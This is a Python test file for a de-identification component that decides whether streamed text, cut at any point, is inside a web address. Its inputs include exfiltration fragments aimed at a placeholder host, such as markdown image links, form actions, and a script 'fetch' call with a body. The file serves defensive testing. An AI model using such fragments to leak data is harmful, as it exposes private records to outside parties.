"""What is part of a web address, however the text is cut."""

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from asepsis.deid.addresses import Address


def inside(*pieces, json=False):
    address = Address(json=json)
    for piece in pieces:
        address.follow(piece)
    return address.inside


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/?q=",
        "see (https://evil.example/",
        "//evil.example/",
        "www.evil.example/",
        "mailto:a@b.org?subject=",
        "https:evil",
        "https:\\/\\/evil\\/",
        "https\\u003a\\u002f",
        "[click](",
        "![x](/img?",
        "evil.example/",
        "evil.example:8080/",
        "10.0.0.1/",
        '<img src="https://evil.example/a b ',
        "<img\nsrc='x ",
        "<https://evil.example/a ",
        'https://evil.example/?q="',
        "https://evil.example/?q=`",
        "https://evil.example/?q=<b>",
        "https://evil.example/?q=<b",
        "<img src='https://evil.example/?a>b ",
        '<img src="https://evil.example/?a>b ',
        "<img alt='>' src='https://evil.example/ ",
        "<a b = '>' ",
        "evil.example\\",
        "evil.example#",
        "evil.example:",
        "evil.museumcenter/",
        "evil\u3002example/",
        "![x](evil.example/ ",
        "![x](//evil.example/\\\n",
        "![x][",
        "<form action=//evil.example><textarea name=q>",
        "<form action=//evil.example><b>x</b> ",
        "<SCRIPT>fetch('//evil.example/', {body:\n '",
        "<style>@import '//evil.example/\n",
    ],
)
def test_here_a_value_would_be_sent_away(text):
    assert inside(text)
    assert inside("word " + text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Patient: ",
        "see https://example.org/ and ",
        "see https://example.org/\n",
        "MRN=",
        "and/or ",
        "Smith/",
        "[NAME_bcdfg]: ",
        "K < 3.5, ",
        "if x <y then ",
        "<b>",
        '<a href="https://example.org">',
        "Dr. ",
        "3.5/",
        "# heading ",
        "see [this](https://example.org/a b) and ",
        "<form action=//x.example></form>",
        "<script>x</script> <b>",
        "it's <b>",
        '<a title="a > b">',
        "[1] ",
        "SSN:",
        "MRN#",
    ],
)
def test_here_a_reader_reads_on(text):
    assert not inside(text)


def test_in_json_an_address_ends_with_its_string():
    assert not inside('{"url":"https://example.org/","name":"', json=True)
    assert inside('{"url":"https://example.org/\\"', json=True)
    assert inside('{"url":"https://example.org/', json=True)


def test_an_address_put_back_goes_on_until_a_space():
    address = Address()
    address.enter()
    address.follow("/path?x=")
    assert address.inside
    address.follow(" and")
    assert not address.inside


PIECES = st.sampled_from(
    [
        "https",
        "://",
        ":",
        "/",
        "\\",
        "www",
        ".",
        "evil",
        ".com",
        " ",
        "\n",
        "<",
        "img",
        " src=",
        '"',
        ">",
        "]",
        "(",
        ")",
        "10",
        "\\u003",
    ]
)


@given(st.lists(PIECES, max_size=25), st.booleans(), st.lists(st.integers(0, 200), max_size=8))
def test_any_cut_gives_the_same(pieces, json, cuts):
    text = "".join(pieces)
    places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
    chunks = [text[a:b] for a, b in pairwise(places)]
    assert inside(*chunks, json=json) == inside(text, json=json) == inside(*text, json=json)


def test_what_is_no_tag_ends_no_address_however_it_is_cut():
    assert inside("<://>") is inside(*"<://>") is True
    assert inside("<a>://x") is inside(*"<a>://x") is True


HARD = [
    "<",
    ">",
    "a",
    "script",
    "/script",
    " ",
    "=",
    "'",
    '"',
    "https://",
    ".example/",
    "](",
    ")",
    "[",
    "!",
    "\n",
    "form",
]


@given(st.lists(st.sampled_from(HARD), max_size=14), st.data())
def test_tags_and_links_do_not_depend_on_cuts(pieces, data):
    text = "".join(pieces)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    assert inside(*(text[a:b] for a, b in pairwise([0, *cuts, len(text)]))) == inside(text)
